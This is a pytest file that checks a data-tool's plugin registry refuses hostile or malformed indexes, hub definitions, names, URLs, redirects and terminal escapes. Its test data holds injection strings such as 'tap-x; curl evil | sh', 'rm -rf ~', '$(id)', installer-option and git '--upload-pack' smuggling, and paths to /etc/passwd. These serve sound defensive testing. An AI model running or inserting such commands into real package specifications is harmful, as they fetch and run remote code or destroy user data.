"""A malformed or hostile registry is refused with a reason, and nothing of it is kept."""

import json
import os

import pytest

from tests.registry.conftest import API, Site, definition, hub, serving

OURS = {"format": 1, "plugins": {"tap-x": {"variants": {"me": {"kind": "tap", "package": "tap-x"}}}}}


def ours(**changed):
    entry = {"kind": "tap", "package": "tap-x", **changed}
    return {"format": 1, "plugins": {"tap-x": {"variants": {"me": entry}}}}


INDEXES = {
    "not JSON": (b"<html>hello</html>", "index.json is not JSON"),
    "cut off": (b'{"format": 1, "plugins": {', "is not JSON"),
    "nested": (b'{"format": 1, "plugins": ' + b"[" * 200_000, "is not JSON"),
    "a list": ([], "neither an index of Dativo's nor one of Meltano Hub's"),
    "a newer format": ({"format": 7, "plugins": {}}, "format: 7 is not 1"),
    "plugins a list": ({"format": 1, "plugins": []}, "plugins: an object is expected"),
    "a name that climbs": ({"format": 1, "plugins": {"../../etc/cron.d/x": {}}}, "cannot be a plugin's name"),
    "a name with a newline": ({"format": 1, "plugins": {"tap-x\n": {}}}, "cannot be a plugin's name"),
    "no variants": ({"format": 1, "plugins": {"tap-x": {"variants": {}}}}, "has no variants"),
    "a variant that climbs": ({"format": 1, "plugins": {"tap-x": {"variants": {"../y": {}}}}}, "may not have"),
    "a default of nobody": (
        {"format": 1, "plugins": {"tap-x": {"default": "z", **OURS["plugins"]["tap-x"]}}},
        "its default is none",
    ),
    "an unknown key": (ours(pip_url="x"), "'pip_url' is no key of an entry"),
    "a kind of its own": (ours(kind="virus"), "its kind is none of"),
    "a package of a number": (ours(package=7), "names no Python package"),
    "shell characters": (ours(package="tap-x; rm -rf ~"), "is no package, path or git URL"),
    "a substitution": (ours(package="$(id)"), "is no package, path or git URL"),
    "an option": (ours(package="--index-url=https://evil.example.org tap-x"), "is no package"),
    "a path": (ours(package="../../x"), "is no package"),
    "a URL": (ours(package="tap-x @ https://evil.example.org/x.whl"), "give a path or git+URL by itself"),
    "a local repository": (ours(package="git+file:///root/secret"), "is no repository that a registry may name"),
    "shell in a git URL": (ours(package="git+https://h/x.git;id"), "is no git URL"),
    "a revision that is an option": (ours(package="git+https://h/x.git@--upload-pack=x"), "that a registry may name"),
    "a folder that climbs": (ours(package="git+https://h/x#subdirectory=../../y"), "that a registry may name"),
    "a password": (ours(package="git+https://me:hunter2@h/x.git"), "holds a password"),
    "an extra from elsewhere": (ours(requires=["git+https://h/x.git"]), "is no requirement of the index"),
    "a command that climbs": (ours(executable="../../bin/sh"), "has characters that it may not have"),
    "a secret that is a word": (ours(settings={"properties": {"a": {"secret": "no"}}}), "true or false is expected"),
    "a type of its own": (ours(settings={"properties": {"a": {"type": "code"}}}), "no type of JSON Schema"),
    "settings without end": (
        json.dumps(ours(settings="@")).replace('"@"', '{"properties": {"a": ' * 60 + "{}" + "}}" * 60).encode(),
        "too deep",
    ),
    "permission for all": (ours(permissions={"network": ["*"]}), "is not HOST:PORT"),
    "Pythons of words": (ours(python="the newest"), "is no version specifier"),
}


@pytest.mark.parametrize(("index", "reason"), INDEXES.values(), ids=INDEXES)
def test_an_index_of_ours(work, index, reason):
    folder = work.folder / "registry"
    folder.mkdir()
    (folder / "index.json").write_bytes(index if isinstance(index, bytes) else json.dumps(index).encode())
    refused = work.dativo("registry", "add", "theirs", folder, "--json").expect(2).json
    assert refused["code"] == "registry.invalid"
    assert reason in refused["message"]
    assert "hunter2" not in json.dumps(refused)
    assert not list(work.home.rglob("registries/*"))


def test_what_a_good_one_looks_like(work):
    (work.folder / "index.json").write_text(json.dumps(OURS))
    assert work.dativo("registry", "add", "mine", "index.json", "--json").expect().json["plugins"] == 1


BAD = {
    "shell characters": ({"pip_url": "tap-x; curl evil | sh"}, "is no package"),
    "backticks in a URL": ({"pip_url": "git+https://h/`id`.git"}, "is no git URL"),
    "an option": ({"pip_url": "tap-x --extra-index-url https://evil.example.org"}, "is an option of an installer"),
    "no package": ({"pip_url": ""}, "is no Python package"),
    "a command that climbs": ({"executable": "../../../bin/sh"}, "may not have"),
    "settings of text": ({"settings": "none"}, "a list is expected"),
    "a setting of text": ({"settings": ["a"]}, "an object is expected"),
    "another plugin": ({"name": "tap-other"}, "that of another plugin"),
    "capabilities of text": ({"capabilities": "all"}, "a list of texts is expected"),
}


@pytest.mark.parametrize(("changed", "reason"), BAD.values(), ids=BAD)
def test_a_definition_of_a_hub(site, work, changed, reason):
    hub(site, ("extractors", definition("tap-orchard", "acme")))
    site.json(f"{API}/plugins/extractors/tap-orchard--acme", {**definition("tap-orchard", "acme"), **changed})
    work.dativo("registry", "add", "hub", site.url).expect()
    for words in (["info", "tap-orchard"], ["add", "tap-orchard"]):
        refused = work.dativo(*words).expect(2).stderr
        assert "error[registry.invalid]" in refused and reason in refused
    assert not list(work.home.rglob("pages/*"))
    assert not (work.folder / "dativo.lock").exists()


@pytest.mark.parametrize("name", ["../../../etc/passwd", "tap/x", "tap-x\u202e", "-tap-x", ".tap"])
def test_names_of_a_hub(site, work, name):
    listed = {"default_variant": "v", "logo_url": None, "variants": {"v": {"ref": "x"}}}
    site.json(f"{API}/plugins/index", {"extractors": {name: listed}})
    assert "cannot be a plugin's name" in work.dativo("registry", "add", "hub", site.url).expect(2).stderr


def test_a_huge_index_is_not_read_to_its_end(site, work):
    site.json("/index.json", b" " * ((16 << 20) + 1))
    refused = work.dativo("registry", "add", "big", site.url).expect(2).stderr
    assert "index.json is over 16 MiB" in refused
    site.json(f"{API}/plugins/extractors/tap-orchard--acme", b" " * ((1 << 20) + 1))
    index = {"tap-orchard": {"default_variant": "acme", "logo_url": None, "variants": {"acme": {"ref": ""}}}}
    site.json("/index.json", {"extractors": index})
    site.json("/plugins/extractors/tap-orchard--acme", b" " * ((1 << 20) + 1))
    work.dativo("registry", "add", "hub", site.url).expect()
    assert "is over 1 MiB" in work.dativo("info", "tap-orchard").expect(2).stderr


def test_a_redirect_to_another_host_is_refused_and_one_within_is_followed(site, work):
    with serving(Site()) as elsewhere:
        elsewhere.json("/index.json", OURS)
        site.pages["/index.json"] = (302, {"Location": f"{elsewhere.url}/index.json"}, b"")
        refused = work.dativo("registry", "add", "moved", site.url).expect(2).stderr
        assert "redirects to another host, http://127.0.0.1" in refused
        assert not elsewhere.asked
        site.pages["/index.json"] = (302, {"Location": "file:///etc/passwd"}, b"")
        assert "error[registry." in work.dativo("registry", "add", "moved", site.url).expect(2, 3).stderr
        site.pages["/index.json"] = (302, {"Location": "/there.json"}, b"")
        site.json("/there.json", OURS)
        work.dativo("registry", "add", "moved", site.url).expect()


def test_a_server_that_fails_is_told_from_one_that_lies(site, work):
    site.json("/index.json", {}, code=503)
    assert "its server answers 503" in work.dativo("registry", "add", "down", site.url).expect(3).stderr
    gone = site.url
    with serving(Site()) as other:
        gone = other.url
    assert "error[registry.unreachable]" in work.dativo("registry", "add", "down", gone).expect(3).stderr
    assert "there is no index" in work.dativo("registry", "add", "none", f"{site.url}/x").expect(2).stderr


@pytest.mark.parametrize(
    "place",
    [
        "https://me:hunter2@h.example.org/x", "https://h.example.org/x?token=hunter2", "http://h.example.org/x",
        "ftp://h.example.org/x", "https:///x", "git+https://me:hunter2@h/x.git", "git+https://h/x.git;id",
    ],
)  # fmt: skip
def test_places(work, place):
    refused = work.dativo("registry", "add", "x", place).expect(2).stderr
    assert "error[usage]" in refused and "hunter2" not in refused


@pytest.mark.parametrize("name", ["../x", "X", "a/b", "", "dativo"])
def test_names_of_registries(work, name):
    work.dativo("registry", "add", name, "nowhere").expect(2)
    assert not (work.home / "data").exists() or not list((work.home / "data").iterdir())


def test_a_link_out_of_the_folder_and_a_pipe_in_it(work, tmp_path):
    folder = work.folder / "registry"
    folder.mkdir()
    (tmp_path / "outside.json").write_text(json.dumps(OURS))
    (folder / "index.json").symlink_to(tmp_path / "outside.json")
    assert "leads out of its folder" in work.dativo("registry", "add", "x", folder).expect(2).stderr
    (folder / "index.json").unlink()
    os.mkfifo(folder / "index.json")
    assert "there is no index" in work.dativo("registry", "add", "x", folder).expect(2).stderr


def test_what_a_registry_says_cannot_drive_a_terminal(work):
    evil = ours(
        description="a\x1b[2Jb\x07\u202ec\nd", settings={"properties": {"k\x1b[1m": {"description": "\x9b31m"}}}
    )
    (work.folder / "index.json").write_text(json.dumps(evil))
    work.dativo("registry", "add", "x", "index.json").expect()
    for words in (["info", "tap-x"], ["search", "tap-x"]):
        shown = work.dativo(*words).expect().stdout
        assert all(character.isprintable() or character == "\n" for character in shown)
